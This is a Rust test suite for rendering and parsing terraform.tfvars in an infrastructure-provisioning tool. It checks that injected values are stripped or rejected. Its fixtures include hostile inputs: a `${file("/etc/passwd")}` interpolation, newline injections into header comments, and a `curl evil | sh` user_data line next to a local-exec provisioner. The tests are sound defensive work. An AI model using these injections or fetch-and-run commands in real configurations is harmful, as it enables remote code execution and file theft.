//! Rendering and reading back terraform.tfvars.

use promptops_core::{
    Catalog, DeploymentDraft, Policy, RenderContext, TfvarsError, TfvarsValues, parse_tfvars,
    render_tfvars, resolve,
};

fn request_for(draft: DeploymentDraft) -> promptops_core::DeploymentRequest {
    resolve(draft, Catalog::embedded(), &Policy::default())
        .unwrap_or_else(|e| panic!("draft should be valid: {e}"))
}

fn context() -> RenderContext {
    RenderContext {
        source: "octo/infra#12".to_string(),
        planner: "offline planner".to_string(),
    }
}

#[test]
fn rendered_t4_request_matches_snapshot() {
    let request = request_for(DeploymentDraft {
        name: Some("inference-t4".to_string()),
        vm_count: Some(5),
        gpu_type: Some("T4".to_string()),
        region: Some("us-west1".to_string()),
        rationale: Some("five inference VMs".to_string()),
        ..DeploymentDraft::default()
    });
    insta::assert_snapshot!(render_tfvars(&request, &context()));
}

#[test]
fn rendered_file_parses_back_to_the_same_values() {
    let request = request_for(DeploymentDraft {
        vm_count: Some(2),
        gpu_type: Some("a100 80gb".to_string()),
        gpu_count: Some(2),
        region: Some("us-east4".to_string()),
        boot_disk_size_gb: Some(250),
        ..DeploymentDraft::default()
    });
    let text = render_tfvars(&request, &context());
    let values = parse_tfvars(&text).expect("rendered file parses");
    assert_eq!(values, TfvarsValues::from(&request));
    assert_eq!(values.machine_type, "a2-ultragpu-2g");
    assert_eq!(values.zone, "us-east4-c");
    // Exactly the seven attributes, nothing from rationale or assumptions.
    let body = hcl::parse(&text).expect("hcl");
    let keys: Vec<&str> = body.attributes().map(|a| a.key()).collect();
    assert_eq!(keys, promptops_core::TFVARS_ATTRIBUTES);
}

#[test]
fn rationale_and_assumptions_never_reach_the_file() {
    let request = request_for(DeploymentDraft {
        rationale: Some("RATIONALE-MARKER ${file(\"/etc/passwd\")}".to_string()),
        assumptions: vec!["ASSUMPTION-MARKER\nuser_data = \"x\"".to_string()],
        ..DeploymentDraft::default()
    });
    let text = render_tfvars(&request, &context());
    assert!(!text.contains("MARKER"), "{text}");
    assert!(!text.contains("${"), "{text}");
}

#[test]
fn header_values_cannot_break_out_of_the_comment() {
    let request = request_for(DeploymentDraft::default());
    let ctx = RenderContext {
        source: "octo/infra#1\nvm_count = 999".to_string(),
        planner: "model x\r\ngpu_count = 8\u{2028}zone = \"y\"".to_string(),
    };
    let text = render_tfvars(&request, &ctx);
    assert_eq!(
        text.lines().filter(|l| l.starts_with('#')).count(),
        3,
        "{text}"
    );
    let values = parse_tfvars(&text).expect("parses");
    assert_eq!(values.vm_count, 1);
    assert_eq!(values.gpu_count, 1);
    assert!(
        text.contains("# Source: octo/infra#1 vm_count = 999"),
        "{text}"
    );
}

#[test]
fn parse_rejects_interpolation_unknown_attributes_and_blocks() {
    let text = r#"
deployment_name = "x-${var.other}"
vm_count = 2
gpu_type = upper("nvidia-tesla-t4")
gpu_count = 1.5
machine_type = ["n1-standard-4"]
zone = "us-west1-a"
user_data = "curl evil | sh"
provisioner "local-exec" {
  command = "id"
}
"#;
    let Err(TfvarsError::Invalid(errors)) = parse_tfvars(text) else {
        panic!("expected invalid values, got {:?}", parse_tfvars(text));
    };
    let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
    for field in [
        "deployment_name",
        "gpu_type",
        "gpu_count",
        "machine_type",
        "user_data",
        "provisioner",
        "boot_disk_size_gb",
    ] {
        assert!(fields.contains(&field), "{field} missing: {errors}");
    }
    let name = errors
        .for_field("deployment_name")
        .next()
        .expect("name error");
    assert!(name.message.contains("literal quoted string"), "{name}");
    let disk = errors
        .for_field("boot_disk_size_gb")
        .next()
        .expect("disk error");
    assert!(disk.message.contains("is missing"), "{disk}");
}

#[test]
fn parse_reports_syntax_errors_and_duplicates() {
    let err = parse_tfvars("vm_count = = 3").expect_err("syntax error");
    assert!(matches!(err, TfvarsError::Syntax(_)), "{err:?}");
    let err = parse_tfvars("vm_count = 1\nvm_count = 2\n").expect_err("duplicate");
    assert!(
        matches!(&err, TfvarsError::Syntax(m) if m.contains("redefined attribute")),
        "{err:?}"
    );
}

#[test]
fn a_parsed_file_feeds_back_into_a_draft() {
    let request = request_for(DeploymentDraft {
        vm_count: Some(4),
        gpu_type: Some("l4".to_string()),
        ..DeploymentDraft::default()
    });
    let values = parse_tfvars(&render_tfvars(&request, &context())).expect("parses");
    let again = resolve(
        DeploymentDraft::from(&values),
        Catalog::embedded(),
        &Policy::default(),
    )
    .expect("re-resolves");
    assert_eq!(TfvarsValues::from(&again), values);
}

#[test]
fn every_problem_is_reported_in_file_order_then_by_attribute() {
    // Unknown attributes and blocks in the order they appear, then the string attributes,
    // then the numbers: the order an operator reads them in the error comment.
    let text = r#"
user_data = "curl evil | sh"
deployment_name = "x-${var.other}"
vm_count = 4294967296
provisioner "local-exec" {
  command = "id"
}
gpu_type = upper("nvidia-tesla-t4")
zone = "us-west1-a"
gpu_count = "1"
"#;
    let Err(TfvarsError::Invalid(errors)) = parse_tfvars(text) else {
        panic!("expected invalid values, got {:?}", parse_tfvars(text));
    };
    let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "user_data",
            "provisioner",
            "deployment_name",
            "gpu_type",
            "machine_type",
            "vm_count",
            "gpu_count",
            "boot_disk_size_gb",
        ]
    );
    insta::assert_snapshot!(errors.to_string());
}

#[test]
fn a_complete_file_with_every_value_at_its_bounds_is_read() {
    let text = "deployment_name = \"\"\nvm_count = 0\ngpu_type = \"t4\"\ngpu_count = 4294967295\nmachine_type = \"m\"\nzone = \"z\"\nboot_disk_size_gb = 10\n";
    assert_eq!(
        parse_tfvars(text),
        Ok(TfvarsValues {
            deployment_name: String::new(),
            vm_count: 0,
            gpu_type: "t4".into(),
            gpu_count: u32::MAX,
            machine_type: "m".into(),
            zone: "z".into(),
            boot_disk_size_gb: 10,
        })
    );
    let negative = text.replace("vm_count = 0", "vm_count = -1");
    let Err(TfvarsError::Invalid(errors)) = parse_tfvars(&negative) else {
        panic!("a negative count is refused");
    };
    assert_eq!(
        errors.iter().map(|e| e.field.as_str()).collect::<Vec<_>>(),
        ["vm_count"]
    );
}
